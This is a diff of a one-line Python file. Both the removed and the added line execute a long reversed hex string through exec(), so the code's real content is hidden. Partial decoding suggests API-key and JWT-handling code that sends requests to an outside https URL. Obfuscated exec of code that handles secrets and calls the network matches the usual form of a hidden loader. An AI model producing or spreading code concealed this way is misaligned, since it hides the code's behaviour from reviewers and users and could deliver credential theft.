@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a022d74796e657b702d7c61667b72266025637c6560256c6075747f5e6275747562702669602924796e65702c2c616678202e6275747562702020202a002020202a02237564797242202c222d73756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a35637c65602020202a02224b42202c222d76623e2a34323031302f2023756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a3030303f51302d3e3023756479726f51647f65717026696c65602020202a02224d42202c222d76623e2a39223a2a2432303138202f2023756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a3030303f5030303f51302d3e3023756479726f51647f65717026696c65602020202a02224742202c222d76623e2a39233a2a2432303138202f2023756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a3030303f5030303f5030303f51302d3e3023756479726f51647f6571702669602020202a022222202020202a0e2924796e65702c25657c61667820266f60256c607574702160237e6275747562702c25657274502669402a356c6075747f5e627574756270202020202020202a0e2375647972602e696021647f657170256864502a33756479726f51647f657170202020202020202a0a33776271402020202a002020202a0e29224b402c224d402c22474820276e6962747370256c6261646165627d2e616d65786021602f647e69602375647972602374716d627f66422222202020202a0a3925637c61664d356c6075747f5e6275747562702c23756479726f51647f65717821647f65717f54716d627f66602665646a0a09756b6f596071602e6275747562702020202a0929756b6f5960716829756b6f5960716f55667163702020202a0a092138247968756e23797370202020202020202a092829756b6f5960716f5564756c656460202020202020202a09222e2963716b696c607160207574757e656d402e24696c6166702b616469647029756b602940514228247e69627070202020202020202a0a3929756b6f5960716829756b6f5960716f59766962756670247f6e602669602020202a0a092138247968756e23797370202020202020202a09222e2963716b696c607160207574757e656d402e276e6f637f6b6028656c6f62602b616469647029756b602940514228247e69627070202020202020202a0a39756b6f59607160247f6e602669602020202a092820796274737e2922202a39756b60294051402e616b6b6573716d42282475707e69602d3029756b6f596071602020202a0922247f626f5478797660402d616277656c656450247f624029646029756b60294051402e616b64716071644228247e696270702020202a04696c61667e6960227f60276e696373796d60266960227563757024707d6f62705023202020202a0a09222e256e6f6027756e6021602275647e6560256371656c60502e24696c61667e696023796029756b6029405140276e6964737968754228247e6962707020202020202020202020202a0a35637c6560202020202020202a047e6562727573602e62757475627020202020202020202020202a0a39247e65627275736829756b6f5960716f59766962756670266960202020202020202a0a347e6562727573602669602020202a092829756b6f5960716f54616f6c602d30247e6562727573602020202a09756b60276e696473796875602e616024616f6c602f64702972745023202020202a022222202020202a0e2974707d6560227f6024696c61667e69602669602d6162776f627070256864702374796875402020202a0e24696c616670266960297c6e6f602375667163502e29756b6025686470237569666962756670237971677c61402020202a0e22756375702568647024707d6f62707025637967727568647f602b347e65637562707026696029756b6e2960716024616f6c402020202a022222202020202a0a327473702e3d20292829756b6f5960716f556275737e65602665646a0a05637c6166402e627574756270202020202020202a09222d756b702a39756b6029405140297669627566702f647024656c696166422668247e69627070202020202020202a0a35602371602e6f69647075636875447375657175625e237473756571756270247075636875602020202a05637c6166402e62757475627020202020202020202020202a09222e2d75646f636f5375747164737e207375627b7025646f63602375747164737028647967702465646e6f6073756270227566727563502e24696c61667e696023796029756b60294051422668247e6962707020202020202020202020202a0a35637c6560202020202020202a05657274502e62757475627020202020202020202020202a09222d7927256d616e6275637577282475676e207375627f5e6f637a6b70402a32756e677f4e6c5d792724696f5275637577282475676e207375627f5e6f637a6b702a34694e6c5e24696c61667023796029756b60294051422668247e6962707020202020202020202020202a09282e6f637a6e20737562702d30207375627f5e6f637a6020202020202020202020202a0a303032302d3d3025646f636f5375747164737e2073756270266960202020202020202a0924757f656d69647d34757f656d6964702c2c6275782475676e2374737565717562702d302073756270202020202020202a022d79756b6f5960716b7d39756b6f3976696275667f2960716f2c6f6c6e257863716d6e2f64707972736f2f2a33707474786226602d302c627570202020202020202a0a397274702020202a022222202020202a0e24696c61667e696023716024656471656274702379602030323d2e6f6e60227f60227f627275602b627f6774756e60297e61402020202a0e203032302054545840286479677023746e6f6073756270247e696f60746e65602e6f696471636966696275667025686470266669602565727450237e6275747562502020202a022222202020202a0a3c6f6f62602e3d2029203e2031302d3024716f6c66602a34757f656d6964702c2a202c227473702a39756b6f5960716829756b6f5960716f597669627566702665646a0a09222e247379687560247f6e6023756f6460256c69666029756b602940514228247e69627070202020202020202a0a35637c65602020202a09222e246564756c656460256c69666029756b602940514228247e69627070202020202020202a092229756b6e296071622825667f6d65627e237f60202020202020202a0a392229756b6e29607162282374737968756e286471607e237f602669602020202a0a392829756b6f5960716f5564756c6564602665646a002020202a09222e297c6c6576637375636365737024656671637029756b602940514228247e696270702020202a0929756b6f5960716825647962777e2660202020202020202a0a3660237160292228366475722d376e69646f636e65602c222772202c2229756b6e29607162282e65607f6028647967702020202a0a39227473702a39756b6f5960716829756b6f5960716f55667163702665646a002020202a0222202e627574756270202020202020202a09222e246e657f6660247f6e60256c69666029756b602940514228247e69627070202020202020202a0a35637c65602020202a0222202e62757475627020202020202020202020202a09222e2974707d6560237960256c69666029756b602940514228247e6962707020202020202020202020202a0a35637c6560202020202020202a09756b6f596071602e62757475627020202020202020202020202a09222e297c6c65766373756363657370246564616f6c6029756b602940514228247e6962707020202020202020202020202a0a39756b6f59607160266960202020202020202a092820796274737e2928246165627e26602d3029756b6f5960716020202020202020202020202a0a3660237160292228366475722d376e69646f636e65602c222272202c2229756b6e29607162282e65607f602864796770202020202020202a0a392229756b6e29607162282374737968756e286471607e237f602669602020202a0a327473702e3d20292829756b6f5960716f54616f6c602665646a09756b6e2960716024656d616e60256c69666024787564702d6f62766029756b602940514024616f6c40232a0a03747375657175627024727f607d696a0379737024727f607d696a037f6024727f607d696" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "d7b702e627574756270202020202020202a0a39227f627275456475726962747471402c227f62727545657c6166502c227f6272754875646e694820247075636875602020202a0d7b7025637c65602924736964602c237d69616c636825636e6164737e69637960266960237d69616c63602e627574756270202020202020202a092924616f6c6971607825646f6365646436326f556661637c62757e243635637162682374616f6c6e2e6f637a602d30237d69616c6360202020202020202a09243025202924616f6c697160782e656c6d28202a20222d32202d3b2024616f6c69716070202020202020202a0d513b59222e222824796c60737e2e656b6f64702d3024616f6c69716070202020202020202a0a397274702020202a0222222e24575a402160266f60237d69616c63602924656966696275667e657820256864702375646f636564422222202020202a0a34736964602e3d2029227473702a3e656b6f6478237d69616c636f54777a602665646a0a022d74796e657b702d7c61667b72266025637c6560256c6075747f5e6275747562702669602924796e65702c2c616678202e6275747562702020202a002020202a02237564797242202c222d73756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a35637c65602020202a02224b42202c222d76623e2a34323031302f2023756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a3030303f51302d3e3023756479726f51647f65717026696c65602020202a02224d42202c222d76623e2a39223a2a2432303138202f2023756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a3030303f5030303f51302d3e3023756479726f51647f65717026696c65602020202a02224742202c222d76623e2a39233a2a2432303138202f2023756479726f51647f65717b7226602d3024796e65702c2c616670202020202020202a0a3030303f5030303f5030303f51302d3e3023756479726f51647f6571702669602020202a022222202020202a0e2924796e65702c25657c61667820266f60256c607574702160237e6275747562702c25657274502669402a356c6075747f5e627574756270202020202020202a0e2375647972602e696021647f657170256864502a33756479726f51647f657170202020202020202a0a33776271402020202a002020202a0e29224b402c224d402c22474820276e6962747370256c6261646165627d2e616d65786021602f647e69602375647972602374716d627f66422222202020202a0a3925637c61664d356c6075747f5e6275747562702c23756479726f51647f65717821647f65717f54716d627f66602665646a0a09756b6f596071602e6275747562702020202a0929756b6f5960716829756b6f5960716f55667163702020202a0a092138247968756e23797370202020202020202a092829756b6f5960716f5564756c656460202020202020202a09222e2963716b696c607160207574757e656d402e24696c6166702b616469647029756b602940514228247e69627070202020202020202a0a3929756b6f5960716829756b6f5960716f59766962756670247f6e602669602020202a0a092138247968756e23797370202020202020202a09222e2963716b696c607160207574757e656d402e276e6f637f6b6028656c6f62602b616469647029756b602940514228247e69627070202020202020202a0a39756b6f59607160247f6e602669602020202a092820796274737e2922202a39756b60294051402e616b6b6573716d42282475707e69602d3029756b6f596071602020202a0922247f626f5478797660402d616277656c656450247f624029646029756b60294051402e616b64716071644228247e696270702020202a04696c61667e6960227f60276e696373796d60266960227563757024707d6f62705023202020202a0a09222e256e6f6027756e6021602275647e6560256371656c60502e24696c61667e696023796029756b6029405140276e6964737968754228247e6962707020202020202020202020202a0a35637c6560202020202020202a047e6562727573602e62757475627020202020202020202020202a0a39247e65627275736829756b6f5960716f59766962756670266960202020202020202a0a347e6562727573602669602020202a092829756b6f5960716f54616f6c602d30247e6562727573602020202a09756b60276e696473796875602e616024616f6c602f64702972745023202020202a022222202020202a0e2974707d6560227f6024696c61667e69602669602d6162776f627070256864702374796875402020202a0e24696c616670266960297c6e6f602375667163502e29756b6025686470237569666962756670237971677c61402020202a0e22756375702568647024707d6f62707025637967727568647f602b347e65637562707026696029756b6e2960716024616f6c402020202a022222202020202a0a327473702e3d20292829756b6f5960716f556275737e65602665646a0a05637c6166402e627574756270202020202020202a09222d756b702a39756b6029405140297669627566702f647024656c696166422668247e69627070202020202020202a0a35602371602e6f69647075636875447375657175625e237473756571756270247075636875602020202a05637c6166402e62757475627020202020202020202020202a09222e2d75646f636f5375747164737e207375627b7025646f63602375747164737028647967702465646e6f6073756270227566727563502e24696c61667e696023796029756b60294051422668247e6962707020202020202020202020202a0a35637c6560202020202020202a05657274502e62757475627020202020202020202020202a09222d7927256d616e6275637577282475676e207375627f5e6f637a6b70402a32756e677f4e6c5d792724696f5275637577282475676e207375627f5e6f637a6b702a34694e6c5e24696c61667023796029756b60294051422668247e6962707020202020202020202020202a09282e6f637a6e20737562702d30207375627f5e6f637a6020202020202020202020202a0a303032302d3d3025646f636f5375747164737e2073756270266960202020202020202a0924757f656d69647d34757f656d6964702c2c6275782475676e25636e6164737e6944727f60737e616274502d302073756270202020202020202a022d79756b6f5960716b7d39756b6f3976696275667f2960716f2c6f6c6e257863716d6e2f64707972736f2f2a33707474786226602d302c627570202020202020202a0a397274702020202a022222202020202a0e24696c61667e696023716024656471656274702379602030323d2e6f6e60227f60227f627275602b627f6774756e60297e61402020202a0e203032302054545840286479677023746e6f6073756270247e696f60746e65602e6f696471636966696275667025686470266669602565727450237e6275747562502020202a022222202020202a0a3c6f6f62602e3d2029203e2031302d3024716f6c66602a34757f656d6964702c2a202c227473702a39756b6f5960716829756b6f5960716f597669627566702665646a0a09222e247379687560247f6e6023756f6460256c69666029756b602940514228247e69627070202020202020202a0a35637c65602020202a09222e246564756c656460256c69666029756b602940514228247e69627070202020202020202a092229756b6e296071622825667f6d65627e237f60202020202020202a0a392229756b6e29607162282374737968756e286471607e237f602669602020202a0a392829756b6f5960716f5564756c6564602665646a002020202a09222e297c6c6576637375636365737024656671637029756b602940514228247e696270702020202a0929756b6f5960716825647962777e2660202020202020202a0a3660237160292228366475722d376e69646f636e65602c222772202c2229756b6e29607162282e65607f6028647967702020202a0a39227473702a39756b6f5960716829756b6f5960716f55667163702665646a002020202a0222202e627574756270202020202020202a09222e246e657f6660247f6e60256c69666029756b602940514228247e69627070202020202020202a0a35637c65602020202a0222202e62757475627020202020202020202020202a09222e2974707d6560237960256c69666029756b602940514228247e6962707020202020202020202020202a0a35637c6560202020202020202a09756b6f596071602e62757475627020202020202020202020202a09222e297c6c65766373756363657370246564616f6c6029756b602940514228247e6962707020202020202020202020202a0a39756b6f59607160266960202020202020202a092820796274737e2928246165627e26602d3029756b6f5960716020202020202020202020202a0a3660237160292228366475722d376e69646f636e65602c222272202c2229756b6e29607162282e65607f602864796770202020202020202a0a392229756b6e29607162282374737968756e286471607e237f602669602020202a0a327473702e3d20292829756b6f5960716f54616f6c602665646a09756b6e2960716024656d616e60256c69666024787564702d6f62766029756b602940514024616f6c40232a0a05636e6164737e6944727f60737e6162745024727f607d696024727f60737e6162747e247e65696c636e207071602d6f62766a03747375657175627024727f607d696a0379737024727f607d696a037f6024727f607d696a0e6f637a6024727f607d696a0436356371626024727f607d696" ));